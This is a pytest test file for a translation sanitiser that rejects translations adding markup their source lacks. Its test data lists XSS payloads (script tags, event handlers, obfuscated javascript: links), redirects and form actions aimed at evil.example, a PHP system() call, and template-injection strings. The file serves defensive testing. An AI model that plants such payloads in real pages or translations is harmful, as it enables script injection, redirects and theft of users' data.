"""Which translations may stand on a page."""

from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from translate.post import Segment
from translate.safe import strange, told, usable

HARMFUL = [
    ("See the map.", "<script>alert(1)</script>Haritaya bakın.", "<script>"),
    ("See the map.", "<SCRIPT src=//evil.example>Haritaya bakın.", "<script>"),
    ("See the map.", '<img src="x" onerror="alert(1)">Haritaya bakın.', "<img>"),
    ("See the map.", '<b onclick="alert(1)">Haritaya</b> bakın.', 'onclick="alert(1)"'),
    ("See the map.", "<b/onmouseover=alert(1)>Haritaya</b> bakın.", 'onmouseover="alert(1)"'),
    ("See the map.", '<a href="javascript:alert(1)">Haritaya</a> bakın.', "javascript:"),
    ("See the map.", '<a href=" java&#10;script:alert(1)">Haritaya</a> bakın.', "javascript:"),
    ("See the map.", '<a href="&#x6a;avascript:alert(1)">Haritaya</a> bakın.', "javascript:"),
    ("See the map.", '<a href="data:text/html,x">Haritaya</a> bakın.', "data:"),
    ("See the map.", '<iframe src="https://evil.example"></iframe>', "<iframe>"),
    ("See the map.", "<svg><script>alert(1)</script></svg>", "<script>"),
    ("See the map.", "<svg onload=alert(1)>Haritaya bakın.", "<svg>"),
    ("See the map.", '<math><mtext><b title="</math><img src=x onerror=alert(1)>">', "<"),
    ("See the map.", "<style>body{display:none}</style>Haritaya bakın.", "<style>"),
    ("See the map.", '<b style="position:fixed;inset:0">Haritaya</b> bakın.', "style="),
    ("See the map.", '<meta http-equiv="refresh" content="0;url=//evil.example">', "<meta>"),
    ("See the map.", '<form action="//evil.example"><input name="p"></form>', "<form>"),
    ("See the map.", '<base href="//evil.example/">Haritaya bakın.', "<base>"),
    ("See the map.", "<object data=x></object>", "<object>"),
    ("See the map.", '<img src="//evil.example/?', "tag that is not closed"),
    ("See the map.", '<b title="Haritaya bakın.', "tag that is not closed"),
    ("See the map.", "Haritaya bakın.</article></body>", "<article>"),
    ("See the map.", "<!-- Haritaya bakın.", "<!"),
    ("See the map.", "<!-- wp:html -->Haritaya bakın.", "<!-- wp:html -->"),
    ("See the map.", "<?php system('ls') ?>", "<?php"),
    ("See the map.", "{{ config }} Haritaya bakın.", "{{ config }}"),
    ("See the map.", "{% include x %} Haritaya bakın.", "{% include x %}"),
    ('See <img src="a.png"> it.', '<img src="https://evil.example/a.png"> bakın.', "src="),
    ('<b onclick="a()">See</b> it.', '<b onclick="b()">Bakın</b>.', 'onclick="b()"'),
    ("See the map.", "#-#-#-#-#  ferry.po  #-#-#-#-# Haritaya bakın.", "#-#-#-#-#"),
    ("Use <script>a()</script> here.", "Burada <script>b()</script>.", "other words in <script>"),
]
HARMFUL_IN_MARKDOWN = [
    ("See the map.", "[Haritaya](javascript:alert(1)) bakın.", "javascript:"),
    ("See the map.", "[Haritaya](<java\tscript:alert(1)>) bakın.", "javascript:"),
    ("See the map.", "<javascript:alert(1)> bakın.", "javascript:"),
    ("See the map.", "![Harita](https://evil.example/x.png) bakın.", "<img>"),
    ("See [the map][m].", "[m]: https://evil.example", "a link's definition"),
    ("See the map.", "`Haritaya` <script>alert(1)</script>", "<script>"),
    ("Write `<script>` here.", "Buraya <script> yazın.", "<script>"),
]
HARMLESS = [
    ("text", "Is 3 < 4?", "3 < 4 mü?"),
    ("text", "See the map.", "Haritaya [bakın]."),
    ("html", "See <em>the map</em>.", "<em>Haritaya</em> bakın."),
    ("html", "See the map.", "<strong>Haritaya</strong> <i lang='tr'>bakın</i>."),
    ("html", "See the map.", '<a href="https://tr.example.org/harita">Haritaya</a> bakın.'),
    ("html", "Ask &amp; see.", "Sorun &lt;ve&gt; &#8220;görün&#8221;."),
    ("html", 'A <img src="a.png" alt="map"> map', '<img src="a.png" alt="harita"> Harita'),
    ("html", '<b onclick="a()">See</b> it.', 'Onu <b onclick="a()">görün</b>.'),
    ("html", "See<br>it.", "Onu<br />görün."),
    ("html", "<iframe src='https://v.example'></iframe> See.", "Gör. <iframe src='https://v.example'></iframe>"),
    ("html", "A {{ word }} here.", "Burada {{ word }}."),
    ("markdown", "See **the map**.", "**Haritaya** bakın."),
    ("markdown", "See [the map](/map).", "[Haritaya](/harita 'başlık') bakın."),
    ("markdown", "See [the map][m].", "[Haritaya][m] bakın."),
    ("markdown", "Write `<script>` here.", "Buraya `<script>` yazın."),
    ("markdown", "See <https://example.org>.", "<https://example.org> adresine bakın."),
    ("markdown", "Press <kbd>Ctrl</kbd>.", "<kbd>Ctrl</kbd> tuşuna basın."),
    ("markdown", "It fell by half.[^1]", "Yarıya indi.[^1]"),
    ("markdown", "See the map.", "Ankara`da haritaya bakın."),
]  # fmt: skip


@pytest.mark.parametrize(("source", "translation", "reason"), HARMFUL)
@pytest.mark.parametrize("syntax", ["html", "text"])
def test_what_the_source_does_not_have_is_named(
    source: str, translation: str, reason: str, syntax: str
) -> None:
    assert reason in strange(source, translation, syntax)


# What is not closed is text in Markdown.
CLOSED = [each for each in HARMFUL if "not closed" not in each[2]]


@pytest.mark.parametrize(("source", "translation", "reason"), HARMFUL_IN_MARKDOWN + CLOSED)
def test_so_it_is_in_markdown(source: str, translation: str, reason: str) -> None:
    assert reason in strange(source, translation, "markdown")


@pytest.mark.parametrize(("syntax", "source", "translation"), HARMLESS)
def test_markup_of_prose_and_of_the_source_may_stay(
    syntax: str, source: str, translation: str
) -> None:
    assert strange(source, translation, syntax) == ""


def segment(text: str, block: int, syntax: str = "markdown") -> Segment:
    return Segment(text, text, "paragraph", "paragraph 1", 1, block, syntax)


def test_a_harmful_translation_is_left_out_and_told() -> None:
    segments = [segment("One.", 0, "html"), segment("Two.", 1, "html")]
    kept, refusals = usable(segments, {"One.": "<script>x</script>Bir.", "Two.": "İki."})
    assert kept == {"Two.": "İki."}
    assert list(told("tr/a.po", refusals)) == [
        "tr/a.po: “One.”: its translation has <script>, which the source does not have: "
        "left in English"
    ]


def test_sentences_that_are_harmful_together_are_left_out() -> None:
    """The first sentence's backtick ends the second one's code span."""
    segments = [segment("It ended.", 0), segment("Write `<script>` here.", 0)]
    translations = {"It ended.": "Bitti ` işte.", "Write `<script>` here.": "Buraya `<script>`."}
    assert usable(segments, translations)[0] == {}
    assert usable([segment("It ended.", 0)], translations)[0]["It ended."]


def test_a_translation_is_judged_in_every_syntax_that_its_sentence_has() -> None:
    segments = [segment("A <map>", 0, "markdown"), segment("A map", 1, "markdown")]
    assert usable([*segments, segment("A map", 2, "html")], {"A map": "<map>"})[0] == {}


@pytest.mark.parametrize(
    "piece", ["<b>", "<div>", "<", "{{", "<!--", "[", "`` ` ", "<b a=", "&lt;", "a", "[a](", "> *"]
)
@pytest.mark.parametrize("syntax", ["html", "markdown"])
def test_a_translation_of_a_megabyte_is_looked_through_in_seconds(piece: str, syntax: str) -> None:
    start = perf_counter()
    for text in (piece * 1999, piece * (1_000_000 // len(piece)), "<b>" + piece * 300_000):
        strange("A map.", text, syntax)
    assert perf_counter() - start < 10


@given(st.text(alphabet="<>/=\"'`[]() abimgsrcont:javscipt&#;!-{}%", max_size=60))
def test_no_text_is_too_odd_and_a_source_is_never_strange_to_itself(text: str) -> None:
    for syntax in ("text", "markdown", "html"):
        assert strange(text, text, syntax) == ""
        assert isinstance(strange("A map.", text, syntax), str)


@pytest.mark.parametrize(
    ("source", "translation", "reason"),
    [
        ("See the map.", '[gallery ids="1"] Haritaya bakın.', "[gallery]"),
        ("A [tip]map[/tip].", "Bir [run code='x']harita[/run].", "[run]"),
        ('A [tip text="a map"]map[/tip].', 'Bir [tip text="bir harita"]harita[/tip].', ""),
        ("He left [sic].", "Gitti [böyle].", ""),
        ("See the map.", "Haritaya [[gallery]] bakın.", ""),
    ],
)
def test_a_shortcode_that_its_source_does_not_have_is_not_run(
    source: str, translation: str, reason: str
) -> None:
    assert strange(source, translation, "html") == reason
